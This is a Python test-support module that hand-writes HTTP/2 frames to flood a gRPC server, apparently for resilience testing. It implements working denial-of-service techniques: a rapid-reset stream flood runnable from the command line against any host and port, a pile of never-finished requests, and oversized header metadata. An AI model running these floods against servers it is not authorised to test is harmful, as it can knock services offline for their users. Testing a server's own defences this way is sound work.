"""Floods of a gRPC server by one who has no token: frames of HTTP/2, written by hand, over plain sockets.

As a program it resets streams of one address: `python -m tests.support.loads.floods HOST:PORT 100000`.
"""

import select
import socket
import struct
import sys
from collections.abc import Iterator
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL: Final = struct.pack(">I", 8)
BATCH: Final = 256
"""Streams per write."""
HEALTH: Final = "/grpc.health.v1.Health/Check"
PATIENCE_S: Final = 60.0
"""Longest that a server may not take a byte before the flood gives up."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(text: str, prefix: bytes) -> bytes:
    """A header field that changes no table: its name by `prefix`, its value as it is, of less than 127 bytes."""
    return prefix + bytes((len(text),)) + text.encode()


def request(path: str = HEALTH) -> bytes:
    """The header block of a gRPC request; the same bytes are right in every stream."""
    return (
        b"\x83\x86"  # :method POST, :scheme http
        + literal(path, b"\x04")
        + literal("localhost", b"\x01")
        + literal("application/grpc", b"\x0f\x10")
        + literal("trailers", literal("te", b"\x00"))
    )


def connect(address: str) -> socket.socket:
    """A connection on which both sides' settings are told."""
    host, _, port = address.rpartition(":")
    opened = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE_S)
    opened.sendall(PREFACE + frame(SETTINGS, 0, 0))
    opened.recv(65536)
    opened.sendall(frame(SETTINGS, ACK, 0))
    return opened


def rapid_reset(address: str, streams: int) -> None:
    """Opens so many streams on one connection and takes each back at once. OSError when the server hangs up."""
    with connect(address) as opened:
        opened.setblocking(False)
        for batch in _resets(streams // BATCH):
            _write(opened, batch)


def unfinished(address: str, streams: int, path: str = HEALTH) -> socket.socket:
    """A connection with requests whose message never comes; they last until it is closed."""
    opened = connect(address)
    opened.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * at + 1, request(path)) for at in range(streams)))
    return opened


def big_metadata(address: str, size: int, requests: int) -> None:
    """So many requests with `size` bytes of metadata each. OSError when the server hangs up."""
    value = b"v" * 8_000
    field = literal("x-flood", b"\x00") + b"\x7f" + _integer(len(value) - 127) + value
    fields = request() + field * (size // len(value))
    pieces = [fields[at : at + 16_384] for at in range(0, len(fields), 16_384)]
    with connect(address) as opened:
        opened.setblocking(False)
        for at in range(requests):
            _write(opened, b"".join(_header_frames(2 * at + 1, pieces)))


def _resets(batches: int) -> Iterator[bytes]:
    block = request()
    start = frame(HEADERS, END_HEADERS, 1, block)
    pair = start + frame(RST_STREAM, 0, 1, CANCEL)
    batch = bytearray(pair * BATCH)
    stream = 1
    for _ in range(batches):
        for place in range(0, len(batch), len(pair)):
            struct.pack_into(">I", batch, place + 5, stream)
            struct.pack_into(">I", batch, place + len(start) + 5, stream)
            stream += 2
        yield bytes(batch)


def _header_frames(stream: int, pieces: list[bytes]) -> Iterator[bytes]:
    """One block of headers in as many frames as it takes, and the end of the request."""
    for at, piece in enumerate(pieces):
        flags = END_HEADERS if at == len(pieces) - 1 else 0
        yield frame(CONTINUATION, flags, stream, piece) if at else frame(HEADERS, flags | END_STREAM, stream, piece)


def _integer(value: int) -> bytes:
    """The further bytes of an integer of HPACK."""
    told = bytearray()
    while value >= 128:
        told.append(value % 128 + 128)
        value //= 128
    return bytes((*told, value))


def _write(opened: socket.socket, data: bytes) -> None:
    """Sends all of it and drops what comes meanwhile. OSError when the server hung up or takes nothing."""
    view = memoryview(data)
    while view:
        readable, writable, _ = select.select([opened], [opened], [], PATIENCE_S)
        if readable and not opened.recv(1 << 20):
            raise ConnectionResetError
        if writable:
            view = view[opened.send(view) :]
        elif not readable:
            raise TimeoutError


if __name__ == "__main__":
    rapid_reset(sys.argv[1], int(sys.argv[2]))
